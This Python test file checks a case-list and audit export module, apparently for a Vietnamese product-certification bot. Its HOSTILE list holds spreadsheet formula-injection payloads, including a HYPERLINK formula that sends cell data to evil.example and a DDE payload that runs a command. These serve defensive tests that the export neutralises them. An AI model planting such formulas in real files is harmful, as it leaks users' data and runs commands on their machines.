"""Lists: every case of the territory and no other, no number unless asked for, and no cell that computes."""

import csv
import io
import json
import re
import zipfile
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any
from xml.etree import ElementTree as ET

import pytest
from sqlalchemy import insert, update
from sqlalchemy.ext.asyncio import AsyncEngine

from bot import catalogs
from bot.desk import export
from bot.desk.export import COLUMNS, CONTACTS, Cell, done, harmless, write, write_audit, write_cases
from bot.world import LOCALES
from dialogs.model import Text
from dialogs.rules.working_days import at_minute
from storage import audit, reports
from storage.audit import Entry
from storage.database import reading, writing
from storage.models import cases, results
from storage.records import own_cases
from tests.heart import ANSWERS, chat, rows, submit
from tests.program import ROOT
from tests.transcripts import Clock

CATALOGS = catalogs.load(LOCALES)
TODAY = date(2026, 11, 30)
HOSTILE = (
    '=HYPERLINK("http://evil.example?x="&A1,"Bấm vào đây")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "  =1+1", "＝1+1", "＠SUM(A1)", '"=1+1', "a,b;c\td", 'say "hi"', "two\nlines",
    "Chuối sấy dẻo 🍌", "'quoted", "_x003D_1+1", "0123", "1e5", "http://evil.example", "a\x01b",
)  # fmt: skip
ANSWERED = {**ANSWERS, "product_group": "food", "producer_kind": "household"}


async def parts(*rows: Sequence[Cell]) -> AsyncIterator[Sequence[Sequence[Cell]]]:
    yield rows


async def made(suffix: str, rows: Sequence[Sequence[Cell]], headings: Sequence[str] = ("A", "B")) -> bytes:
    file = io.BytesIO()
    await write(file, suffix, "Sheet", headings, parts(*rows))
    return file.getvalue()


def from_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


_NS = {"x": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}


def from_xlsx(data: bytes) -> list[list[tuple[str, str, bool]]]:
    """Rows of (kind, value, marked as text) as the sheet's XML has them; "s" is a text, "n" a number, "f" a formula."""
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        sheet = ET.fromstring(package.read("xl/worksheets/sheet1.xml"))  # noqa: S314  our own bytes
        styles = ET.fromstring(package.read("xl/styles.xml"))  # noqa: S314
    marked = [xf.get("quotePrefix") == "1" for xf in styles.findall("x:cellXfs/x:xf", _NS)]
    return [[_cell(cell, marked) for cell in row.findall("x:c", _NS)] for row in sheet.iter(f"{{{_NS['x']}}}row")]


def _cell(cell: ET.Element, marked: Sequence[bool]) -> tuple[str, str, bool]:
    words = "".join(node.text or "" for node in cell.findall("x:is//x:t", _NS))
    kind = "f" if cell.find("x:f", _NS) is not None else "s" if cell.get("t") == "inlineStr" else "n"
    value = words if kind == "s" else cell.findtext("x:v", "", _NS)
    return kind, _unescaped(value), marked[int(cell.get("s", "0"))]


def _unescaped(value: str) -> str:
    """As Excel reads "_x0001_" (ECMA-376, ST_Xstring)."""
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda found: chr(int(found[1], 16)), value)


# ---------------------------------------------------------------- cells


@pytest.mark.parametrize("words", HOSTILE)
async def test_no_text_is_a_formula_in_a_csv(words: str) -> None:
    (_, (shown, _)) = from_csv(await made(".csv", [(words, "x")]))
    assert shown.removeprefix("'") == words.removeprefix("'")
    assert shown[0] not in "=+-@\t\r＝＠"
    assert not shown.strip().startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("words", HOSTILE)
async def test_every_text_is_a_text_in_an_xlsx(words: str) -> None:
    (_, (cell, _)) = from_xlsx(await made(".xlsx", [(words, "x")]))
    kind, shown, marked = cell
    assert (kind, shown.replace("\r\n", "\n")) == ("s", words)
    assert marked == (harmless(words) != words)


async def test_an_ordinary_text_is_left_alone() -> None:
    assert harmless("Chuối sấy - loại 1 = ngon") == "Chuối sấy - loại 1 = ngon"
    assert harmless("") == ""


async def test_numbers_and_days_are_numbers_and_days() -> None:
    row = (-3, Decimal("27.5"), date(2026, 11, 23), datetime(2026, 11, 23, 2, 30, tzinfo=UTC), None)
    (_, shown) = from_csv(await made(".csv", [row], "ABCDE"))
    assert shown == ["-3", "27.5", "2026-11-23", "2026-11-23 09:30:00", ""]
    (_, cells) = from_xlsx(await made(".xlsx", [row], "ABCDE"))
    assert [kind for kind, _, _ in cells] == ["n"] * 4
    assert [float(value) for _, value, _ in cells] == [-3, 27.5, 46349, pytest.approx(46349 + 9.5 / 24)]


async def test_excel_sees_that_a_csv_is_utf_8() -> None:
    data = await made(".csv", [("Chuối", "dẻo")], ("Tên", "Loại"))
    assert data == "\ufeffTên,Loại\r\nChuối,dẻo\r\n".encode()


async def test_a_list_that_excel_could_not_open_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(export, "MAX_ROWS", 2)
    with pytest.raises(export.TooLong):
        await made(".xlsx", [("a", "b")] * 3)
    assert len(from_csv(await made(".csv", [("a", "b")] * 3))) == 4


# ---------------------------------------------------------------- the cases


async def territory(engine: AsyncEngine, *names: str, commune: str = "04336", **values: Any) -> list[str]:
    """Cases of these products in a commune; `values` are put into every one."""
    clock = Clock()
    producer = await chat(engine, clock, "anna")
    codes = [await submit(engine, producer, clock(), {**ANSWERED, "product": name}) for name in names]
    province = {"04336": "15", "04337": "15", "03253": "11"}[commune]
    place = {"commune": commune, "province": province, "territory": f"{province}/{commune}"}
    async with writing(engine) as connection:
        await connection.execute(update(cases).where(cases.c.code.in_(codes)).values(place | values))
    return codes


async def listed(
    engine: AsyncEngine, where: str, locale: str = "vi", *, contacts: bool = False
) -> list[dict[str, str]]:
    file = io.BytesIO()
    async with reading(engine) as connection:
        await write_cases(connection, file, ".csv", where, CATALOGS[locale], TODAY, contacts=contacts)
    heads, *rows = from_csv(file.getvalue())
    english = [CATALOGS[locale].say(Text(msgid)) for msgid in (*COLUMNS, *CONTACTS)]
    assert heads == english[: len(heads)]
    return [dict(zip((*COLUMNS, *CONTACTS), row, strict=False)) for row in rows]


async def test_a_case_is_told_in_words(engine: AsyncEngine) -> None:
    (code,) = await territory(engine, "Chuối sấy dẻo")
    (row,) = await listed(engine, "15/04336")
    assert row == {
        "Code": code, "Product": "Chuối sấy dẻo", "Product group": "Thực phẩm", "Producer": "Lý Thị Mẩy",
        "Kind of producer": "Hộ gia đình", "Commune": "xã Tân Lĩnh", "Status": "Ý tưởng đang chờ xã xem",
        "Whose turn": "cán bộ xã", "Handed in": "2026-11-23", "In this status since": "2026-11-23",
        "Due on": row["Due on"], "Working days used": "4", "Stars": "", "Part A": "", "Part B": "", "Part C": "",
        "Points": "", "Certificate until": "", "Product code": "",
    }  # fmt: skip
    assert row["Due on"] > "2026-11-23"  # and 24 November is a holiday
    (row,) = await listed(engine, "15/04336", "en")
    assert row["Status"] == "The commune is looking at the idea"


async def test_who_has_the_case_uses_no_days_of_an_office(engine: AsyncEngine) -> None:
    await territory(engine, "a", owner="producer", status="idea_returned", due_on=None)
    assert [row["Working days used"] for row in await listed(engine, "15")] == [""]


@pytest.mark.parametrize(
    ("day", "used"),
    [(date(2026, 11, 27), 44), (date(2026, 11, 29), 45), (date(2026, 11, 30), 45), (date(2026, 12, 1), 48)],
)
async def test_no_more_than_a_limit_is_used_until_its_last_day_has_passed(
    sqlite_engine: AsyncEngine, day: date, used: int
) -> None:
    filed: dict[str, Any] = {
        "owner": "province",
        "status": "forwarded",
        "purpose": "renewal",
        "since": date(2026, 10, 14),
    }
    await territory(sqlite_engine, "a", **filed, due_on=date(2026, 11, 30))
    (row,) = await rows(sqlite_engine, cases)
    async with reading(sqlite_engine) as connection:
        closed = await reports.closed_in(connection, "15", frozenset())
        (shown,) = await own_cases(connection, row.person_id, at_minute(day, 600), frozenset())
    assert reports.days_used(row, closed, day) == shown.used_days == used


async def test_a_list_holds_its_territory_and_nothing_else(engine: AsyncEngine) -> None:
    await territory(engine, "a", "b")
    await territory(engine, "c", commune="04337")
    await territory(engine, "d", commune="03253")
    found = {
        where: [row["Product"] for row in await listed(engine, where)] for where in ("15/04336", "15", "11", "", "1")
    }
    assert found == {"15/04336": ["a", "b"], "15": ["a", "b", "c"], "11": ["d"], "": ["a", "b", "c", "d"], "1": []}
    async with reading(engine) as connection:
        assert [await reports.how_many(connection, where) for where in ("15/04336", "15", "")] == [2, 3, 4]


async def test_numbers_are_in_the_list_only_when_asked_for(engine: AsyncEngine) -> None:
    await territory(engine, "a")
    without = str(await listed(engine, "15"))
    assert not [number for number in ("0912 345 678", "912345678") if number in without]
    (row,) = await listed(engine, "15", contacts=True)
    assert (row["Contact"], row["Telephone"]) == ("Mẩy", "0912 345 678")


@pytest.mark.parametrize("published", [True, False])
async def test_a_result_is_in_the_list_once_it_is_published(engine: AsyncEngine, published: bool) -> None:
    await territory(engine, "a", status="certified", owner="nobody", due_on=None)
    row = {
        "case_id": 1, "points_a": Decimal("27.25"), "points_b": 15, "points_c": 21, "stars": 3,
        "certificate_until": date(2029, 10, 20), "published_at": Clock()() if published else None,
    }  # fmt: skip
    async with writing(engine) as connection:
        await connection.execute(insert(results).values(row))
    (line,) = await listed(engine, "15")
    shown = [line[name] for name in ("Stars", "Part A", "Part B", "Part C", "Points", "Certificate until")]
    assert shown == (["3", "27.25", "15.00", "21.00", "63.25", "2029-10-20"] if published else [""] * 6)


async def test_hostile_names_come_through_whole(engine: AsyncEngine) -> None:
    names = [name for name in HOSTILE if "\x01" not in name]
    await territory(engine, *names)
    assert [row["Product"] for row in await listed(engine, "15")] == [harmless(name) for name in names]


async def test_a_long_list_is_read_in_parts(engine: AsyncEngine, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reports, "BATCH", 3)
    await territory(engine, *(f"sản phẩm {n}" for n in range(10)))
    async with reading(engine) as connection:
        sizes = [len(part) async for part in reports.listed(connection, "15")]
    assert sizes == [3, 3, 3, 1]
    assert len(await listed(engine, "15")) == 10


async def test_an_empty_territory_has_a_heading(engine: AsyncEngine) -> None:
    assert await listed(engine, "15") == []
    file = io.BytesIO()
    async with reading(engine) as connection:
        await write_cases(connection, file, ".xlsx", "15", CATALOGS["vi"], TODAY)
    assert [len(row) for row in from_xlsx(file.getvalue())] == [len(COLUMNS)]


# ---------------------------------------------------------------- the audit of a case


async def test_the_audit_of_a_case_and_of_no_other(engine: AsyncEngine) -> None:
    now = Clock()()
    me = await chat(engine, Clock(), "anna", name="=Mẩy")
    entries = [
        Entry("accept", me.person_id, "web", "TL12-26-0001", {"item": "all"}, "commune_officer"),
        Entry("x", None, "cli", "B"),
    ]
    async with writing(engine) as connection:
        await audit.record(connection, entries, now)
    files = {}
    for suffix in (".csv", ".xlsx", ".json"):
        file = io.BytesIO()
        async with reading(engine) as connection:
            assert await write_audit(connection, file, suffix, "TL12-26-0001", CATALOGS["en"]) == 1
        files[suffix] = file.getvalue()
    (_, row) = from_csv(files[".csv"])
    assert row[:8] == [
        "1",
        "2026-11-23 09:00:00",
        str(me.person_id),
        "'=Mẩy",
        "commune officer",
        "web",
        "accepted",
        '{"item":"all"}',
    ]
    assert [value for _, value, _ in from_xlsx(files[".xlsx"])[1]][6] == "accepted"


async def test_the_json_of_an_audit_can_be_verified_by_itself(engine: AsyncEngine) -> None:
    async with writing(engine) as connection:
        await audit.record(
            connection, [Entry("accept", 1, "web", "A", {"b": 1, "a": [2]}), Entry("x", 1, "web", "A")], Clock()()
        )
    file = io.BytesIO()
    async with reading(engine) as connection:
        await write_audit(connection, file, ".json", "A", CATALOGS["vi"])
    entries = json.loads(file.getvalue())
    for entry in entries:
        assert audit.hash_of({**entry, "happened_at": datetime.fromisoformat(entry["happened_at"])}) == entry["hash"]
    assert entries[1]["previous"] == entries[0]["hash"]


ACTION_CHARS = 24
"""Of the column in storage/models.py; PostgreSQL refuses more, and with it the whole turn."""


def recorded() -> set[tuple[str, bool]]:
    """Every action that the program records, and whether it is about a case."""
    found = set()
    for path in (*(ROOT / "bot").rglob("*.py"), *(ROOT / "storage").rglob("*.py")):
        source = path.read_text("utf-8")
        for record in re.finditer(r"(?:\.record|\bEntry|_record)\((?:connection, )?\"(\w+)\",?([^)]*)", source):
            found.add(
                (
                    record[1],
                    bool(
                        re.match(
                            r"\s*(?:None, \"\", )?(?:effect\.code|case\.code|filed\.code|one\.code|code)", record[2]
                        )
                    ),
                )
            )
    return found


def test_every_action_of_a_case_is_told_in_words_and_fits_its_column() -> None:
    actions = recorded()
    assert {("take", True), ("decide", True), ("join", False), ("expire", True)} <= actions
    assert [action for action, _ in actions if len(action) > ACTION_CHARS] == []
    assert [action for action, of_case in actions if of_case and done(action, {}, CATALOGS["vi"]) == action] == []
